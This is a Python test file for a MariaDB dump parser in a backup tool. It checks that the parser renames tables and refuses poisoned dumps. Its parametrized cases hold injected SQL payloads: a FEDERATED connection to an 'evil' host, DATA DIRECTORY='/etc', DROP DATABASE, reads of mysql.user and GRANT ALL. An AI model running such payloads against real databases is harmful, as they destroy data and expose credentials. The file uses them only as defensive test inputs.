"""The grammar of a table's file: what mariadb-dump writes passes, everything else is refused."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rempart.backup.core.dump import Poisoned, Splitter, statements

CREATE = (
    b"CREATE TABLE `t` (\n  `a` int(11) NOT NULL,\n  `s` text DEFAULT NULL,\n  PRIMARY KEY (`a`)\n) ENGINE=InnoDB;\n"
)


def read(data: bytes, table: str = "t") -> bytes:
    """The statements that would be run."""
    return b"".join(part for part, _ in statements(data.splitlines(keepends=True), table, "fresh", lambda name: name))


def test_a_table_gets_another_name_and_nothing_else_changes() -> None:
    out = read(CREATE + b"INSERT INTO `t` VALUES\n(1,'x;y'),\n(-2.5e3,NULL);\n")
    assert out.startswith(b"CREATE TABLE `fresh` (\n")
    assert b"INSERT INTO `fresh` VALUES\n(1,'x;y'),\n(-2.5e3,NULL);\n" in out


@pytest.mark.parametrize(
    "create",
    [
        CREATE.replace(b"ENGINE=InnoDB", b"ENGINE=InnoDB DATA DIRECTORY='/etc'"),
        CREATE.replace(b"ENGINE=InnoDB", b"ENGINE=FEDERATED CONNECTION='mysql://evil/x'"),
        CREATE.replace(b"ENGINE=InnoDB", b"ENGINE=CSV"),
        CREATE.replace(b"ENGINE=InnoDB", b"/*!50100 DEFINER=`root`@`%` */"),
        CREATE.replace(b"ENGINE=InnoDB;", b"ENGINE=InnoDB; DROP DATABASE x;"),
        CREATE.replace(b") ENGINE=InnoDB;\n", b") ENGINE=InnoDB SELECT * FROM mysql.user;\n"),
        CREATE.replace(b"`t`", b"`mysql`.`user`"),
        CREATE[:-2],
    ],
)
def test_a_table_that_reaches_out_is_refused(create: bytes) -> None:
    with pytest.raises(Poisoned):
        read(create)


def test_words_inside_quotes_are_only_words() -> None:
    assert read(CREATE.replace(b"DEFAULT NULL", b"DEFAULT 'SELECT 1; DATA DIRECTORY=x' COMMENT 'DEFINER'"))


@settings(max_examples=80)
@given(st.binary(max_size=60))
def test_no_row_of_a_stranger_is_run_unless_it_is_values_alone(row: bytes) -> None:
    line = b"(" + row.replace(b"\n", b"") + b");\n"
    try:
        out = read(CREATE + b"INSERT INTO `t` VALUES\n" + line)
    except Poisoned:
        return
    body = out.split(b"VALUES\n", 1)[1]
    inside = False
    for at, letter in enumerate(body[:-2]):
        if letter == ord("'") and (at == 0 or body[at - 1 : at] != b"\\" or not inside):
            inside = not inside
        assert inside or letter in b"(),NULxABCDEFabcdef0123456789.+-eE'"


def test_the_splitter_reads_both_ways_of_writing_rows() -> None:
    for stream in (
        CREATE + b"INSERT INTO `t` VALUES\n(1,'a'),\n(2,'b');\n",
        CREATE + b"INSERT INTO `t` VALUES (1,'a'),\n(2,'b');\n",
        CREATE + b"INSERT INTO `t` VALUES (1,'a'),(2,'b');\n",
    ):
        files: dict[str, bytearray] = {}

        def begin(name: str, files: dict[str, bytearray] = files) -> object:
            return files.setdefault(name, bytearray()).extend

        splitter = Splitter(begin)  # type: ignore[arg-type]

        for one in (b"/*!40101 SET x */;\n" + stream).splitlines(keepends=True):
            splitter.line(one)
        splitter.end()
        assert splitter.rows == 2
        assert bytes(files["t"]) == CREATE + b"INSERT INTO `t` VALUES\n(1,'a'),\n(2,'b');\n"


@settings(max_examples=60)
@given(st.lists(st.integers(1, 90), max_size=40))
def test_wherever_the_stream_is_cut_the_same_files_come(cuts: list[int]) -> None:
    stream = (
        b"/*!40101 SET x */;\n"
        + CREATE
        + b"INSERT INTO `t` VALUES\n(1,'a);'),\n(2,'b');\nINSERT INTO `t` VALUES\n(3,NULL);\n"
    )
    stream += CREATE.replace(b"`t`", b"`u`")
    whole: dict[str, bytearray] = {}
    splitter = Splitter(lambda name: whole.setdefault(name, bytearray()).extend)
    at = 0
    for cut in [*cuts, len(stream)]:
        splitter.feed(stream[at : at + cut])
        at += cut
    splitter.end()
    assert bytes(whole["t"]).count(b"\n(") == 3
    assert bytes(whole["t"]) == CREATE + stream.split(CREATE)[1].split(b"CREATE TABLE")[0]
    assert bytes(whole["u"]) == CREATE.replace(b"`t`", b"`u`")


@pytest.mark.parametrize("stream", [b"DROP TABLE x;\n", b"(1);\n", CREATE + b"GRANT ALL;\n"])
def test_the_splitter_refuses_what_no_dump_of_tables_holds(stream: bytes) -> None:
    splitter = Splitter(lambda name: lambda data: None)
    *before, last = stream.splitlines(keepends=True)
    for line in before:
        splitter.line(line)
    with pytest.raises(Poisoned):
        splitter.line(last)
